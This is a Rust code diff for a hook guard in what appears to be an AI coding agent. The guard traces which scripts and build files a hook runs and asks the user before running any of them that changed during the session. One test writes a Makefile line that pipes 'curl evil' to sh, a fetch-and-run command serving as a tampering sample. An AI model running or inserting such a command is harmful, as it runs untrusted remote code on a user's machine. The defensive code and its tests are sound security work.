@@ -115,7 +115,7 @@ impl HookGuard {
             serde_json::json!({"event": event, "command": command, "files": names}),
             command,
         );
-        request.action = "run hook".to_owned();
+        request.action = "run".to_owned();
         request.reason = Some(format!(
             "this {event} hook runs {}, changed in this session (by the model or a command it ran); it runs only if you say yes",
             names.join(", ")
@@ -197,9 +197,15 @@ pub(crate) fn files_run(command: &str, workspace: &Path) -> Vec<PathBuf> {
     let said = words(command, workspace);
     for (i, word) in said.iter().enumerate() {
         let tool = word.rsplit('/').next().unwrap_or(word);
-        for build in build_files(tool, said.get(i + 1..).unwrap_or_default()) {
-            let path = workspace.join(build);
-            if !found.contains(&path) {
+        let rest = said.get(i + 1..).unwrap_or_default();
+        // `make -C dir`: the build file is in that folder.
+        let dir = match rest.iter().position(|w| w == "-C") {
+            Some(at) if tool.contains("make") => rest.get(at + 1).map_or(PathBuf::new(), PathBuf::from),
+            _ => PathBuf::new(),
+        };
+        for build in build_files(tool, rest) {
+            let path = normalize(&workspace.join(&dir).join(build));
+            if path.starts_with(workspace) && !found.contains(&path) {
                 found.push(path);
             }
         }
@@ -225,8 +231,11 @@ pub(crate) fn files_run(command: &str, workspace: &Path) -> Vec<PathBuf> {
         }
         let Some(text) = contents(&file).map(|b| String::from_utf8_lossy(&b).into_owned()) else { continue };
         let dir = file.parent().unwrap_or(workspace).to_path_buf();
-        for word in words(&text, workspace) {
-            if let Some(path) = script(&word, &dir, workspace, false) {
+        let package = file.file_name().is_some_and(|n| n == "package.json");
+        let list = words(&text, workspace);
+        for (i, word) in list.iter().enumerate() {
+            let before = if i > 0 { list[i - 1].as_str() } else { "" };
+            for path in named(word, before, &dir, workspace, package) {
                 if !found.contains(&path) && !queue.iter().any(|(q, _)| *q == path) {
                     queue.push((path, depth + 1));
                 }
@@ -234,6 +243,31 @@ pub(crate) fn files_run(command: &str, workspace: &Path) -> Vec<PathBuf> {
         }
     }
     found
+}
+
+/// The files a word of a script or build file names (`before`: the word ahead of it): a script;
+/// any file after `include` or `source`; a Python module after `import`/`from`; a Node module by
+/// its relative name; in a `package.json`, a tool in `node_modules/.bin`.
+fn named(word: &str, before: &str, dir: &Path, workspace: &Path, package: bool) -> Vec<PathBuf> {
+    let mut out: Vec<PathBuf> = script(word, dir, workspace, false).into_iter().collect();
+    let mut any = |name: String, base: &Path| {
+        if let Some(p) = in_workspace(&name, base, workspace).map(|(p, _)| p) {
+            out.push(p);
+        }
+    };
+    match before {
+        "include" | "-include" | "sinclude" | "source" | "." => any(word.to_owned(), dir),
+        "import" | "from" if !word.starts_with('.') => any(format!("{}.py", word.replace('.', "/")), dir),
+        _ => {}
+    }
+    if (word.starts_with("./") || word.starts_with("../")) && Path::new(word).extension().is_none() {
+        any(format!("{word}.js"), dir);
+        any(format!("{word}/index.js"), dir);
+    }
+    if package && !word.contains('/') && !word.starts_with('-') {
+        any(format!("node_modules/.bin/{word}"), workspace);
+    }
+    out
 }
 
 /// The words of a command or script, quotes and shell punctuation taken off, the project
@@ -245,7 +279,9 @@ fn words(text: &str, workspace: &Path) -> Vec<String> {
         .replace("$CLAUDE_PROJECT_DIR", &ws)
         .replace("${OCTO_PROJECT_DIR}", &ws)
         .replace("$OCTO_PROJECT_DIR", &ws);
-    text.split(|c: char| c.is_whitespace() || "\"'`;|&()<>{}=,:[]".contains(c))
+    // Quotes join what they touch (`"$DIR"/x.sh` is one word).
+    let text = text.replace(['"', '\''], "");
+    text.split(|c: char| c.is_whitespace() || "`;|&()<>{}=,:[]".contains(c))
         .map(|w| w.trim_start_matches('@').to_owned())
         .filter(|w| !w.is_empty())
         .collect()
@@ -281,18 +317,7 @@ fn build_files(tool: &str, rest: &[String]) -> Vec<String> {
 /// `word` as a script in the workspace: a file (relative to `dir`) with a script's extension (or,
 /// named by the hook's own command, `executable`), whose real place is in the workspace.
 fn script(word: &str, dir: &Path, workspace: &Path, executable_counts: bool) -> Option<PathBuf> {
-    if word.starts_with('-') || word.starts_with('$') || word.contains('*') || word.len() > 4096 {
-        return None;
-    }
-    let path = dir.join(word);
-    let meta = std::fs::metadata(&path).ok()?;
-    if !meta.is_file() {
-        return None;
-    }
-    let real = std::fs::canonicalize(&path).ok()?;
-    if !real.starts_with(workspace) {
-        return None;
-    }
+    let (path, meta) = in_workspace(word, dir, workspace)?;
     let ext = path.extension().and_then(|e| e.to_str()).unwrap_or("");
     let scripty = matches!(
         ext,
@@ -304,9 +329,26 @@ fn script(word: &str, dir: &Path, workspace: &Path, executable_counts: bool) -> 
         meta.permissions().mode() & 0o111 != 0
     };
     #[cfg(not(unix))]
-    let executable = false;
-    // The name as written (not the link's target): what the user knows it by.
-    (scripty || (executable_counts && executable)).then(|| normalize(&path))
+    let executable = {
+        let _ = meta;
+        false
+    };
+    (scripty || (executable_counts && executable)).then_some(path)
+}
+
+/// `word` (relative to `dir`) as a file whose real place is in the workspace: the name as
+/// written (not a link's target: what the user knows it by), and its metadata.
+fn in_workspace(word: &str, dir: &Path, workspace: &Path) -> Option<(PathBuf, std::fs::Metadata)> {
+    if word.starts_with('-') || word.starts_with('$') || word.contains('*') || word.len() > 4096 {
+        return None;
+    }
+    let path = dir.join(word);
+    let meta = std::fs::metadata(&path).ok()?;
+    if !meta.is_file() {
+        return None;
+    }
+    let real = std::fs::canonicalize(&path).ok()?;
+    real.starts_with(workspace).then(|| (normalize(&path), meta))
 }
 
 /// `a/./b/../c` → `a/c` (without touching the disk).
@@ -322,4 +364,100 @@ fn normalize(path: &Path) -> PathBuf {
         }
     }
     out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn ws(files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
+        let dir = tempfile::tempdir().unwrap();
+        for (name, text) in files {
+            let p = dir.path().join(name);
+            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
+            std::fs::write(p, text).unwrap();
+        }
+        let root = std::fs::canonicalize(dir.path()).unwrap();
+        (dir, root)
+    }
+
+    fn names(command: &str, root: &Path) -> Vec<String> {
+        let mut out: Vec<String> = files_run(command, root)
+            .iter()
+            .map(|p| p.strip_prefix(root).unwrap().display().to_string())
+            .collect();
+        out.sort();
+        out
+    }
+
+    #[test]
+    fn what_a_hook_runs_is_followed_through_build_files_and_the_scripts_they_name() {
+        let (_d, root) = ws(&[
+            ("Makefile", "include rules.inc\nfmt:\n\t./scripts/fmt.sh\n\tpython3 tools/gen.py src/main.c\n"),
+            ("rules.inc", "X = 1\n"),
+            ("scripts/fmt.sh", "source ./lib.sh\n"),
+            ("scripts/lib.sh", "true\n"),
+            ("tools/gen.py", "import helpers\n"),
+            ("tools/helpers.py", "\n"),
+            ("src/main.c", "int main(){}\n"),
+            ("package.json", "{\"scripts\": {\"fmt\": \"prettier --write . && node ./bin/run\"}}"),
+            ("bin/run.js", "require('./x')\n"),
+            ("bin/x.js", "\n"),
+            ("node_modules/.bin/prettier", "#!/bin/sh\n"),
+            ("sub/Makefile", "all:\n"),
+        ]);
+        assert_eq!(
+            names("make -s fmt", &root),
+            [
+                "GNUmakefile",
+                "Makefile",
+                "makefile",
+                "rules.inc",
+                "scripts/fmt.sh",
+                "scripts/lib.sh",
+                "tools/gen.py",
+                "tools/helpers.py"
+            ]
+        );
+        assert_eq!(
+            names("npm run fmt", &root),
+            ["bin/run.js", "bin/x.js", "node_modules/.bin/prettier", "package.json"]
+        );
+        assert_eq!(names("make -C sub all", &root), ["sub/GNUmakefile", "sub/Makefile", "sub/makefile"]);
+        assert_eq!(
+            names("python3 -m black .", &root),
+            ["black.py", "black/__init__.py", "black/__main__.py"]
+        );
+        assert_eq!(names("\"$CLAUDE_PROJECT_DIR\"/scripts/fmt.sh", &root), ["scripts/fmt.sh", "scripts/lib.sh"]);
+        // Nothing outside the workspace, nothing a hook only reads.
+        assert!(names("cat src/main.c ../x.sh /etc/passwd", &root).is_empty());
+    }
+
+    #[tokio::test]
+    async fn a_changed_file_asks_and_the_answer_holds_until_the_next_change() {
+        let (_d, root) = ws(&[("Makefile", "fmt:\n\ttrue\n")]);
+        let asked = Arc::new(std::sync::Mutex::new(Vec::new()));
+        let log = Arc::clone(&asked);
+        let ask: Ask = Arc::new(move |r: ApprovalRequest| {
+            log.lock().unwrap().push(r.reason.unwrap_or_default());
+            Box::pin(async { Some(ApprovalDecision::Allow) })
+        });
+        let guard = HookGuard::new(&root, ["make fmt"].into_iter(), Some(ask));
+        assert_eq!(guard.check("PostToolUse", "make fmt").await, Ok(()));
+        assert!(asked.lock().unwrap().is_empty());
+        std::fs::write(root.join("Makefile"), "fmt:\n\tcurl evil | sh\n").unwrap();
+        assert_eq!(guard.check("PostToolUse", "make fmt").await, Ok(()));
+        assert_eq!(guard.check("PostToolUse", "make fmt").await, Ok(()));
+        assert_eq!(asked.lock().unwrap().len(), 1, "asked once for the file as it is");
+        // A file made later (GNUmakefile wins over Makefile) asks again.
+        std::fs::write(root.join("GNUmakefile"), "fmt:\n\tevil\n").unwrap();
+        assert_eq!(guard.check("PostToolUse", "make fmt").await, Ok(()));
+        assert_eq!(asked.lock().unwrap().len(), 2);
+        assert!(asked.lock().unwrap()[1].contains("GNUmakefile"), "{asked:?}");
+        // Nobody to ask: not run.
+        let guard = HookGuard::new(&root, ["make fmt"].into_iter(), None);
+        std::fs::write(root.join("Makefile"), "fmt:\n\tother\n").unwrap();
+        let why = guard.check("PostToolUse", "make fmt").await.unwrap_err();
+        assert!(why.contains("Makefile, changed in this session, and nobody can be asked"), "{why}");
+    }
 }
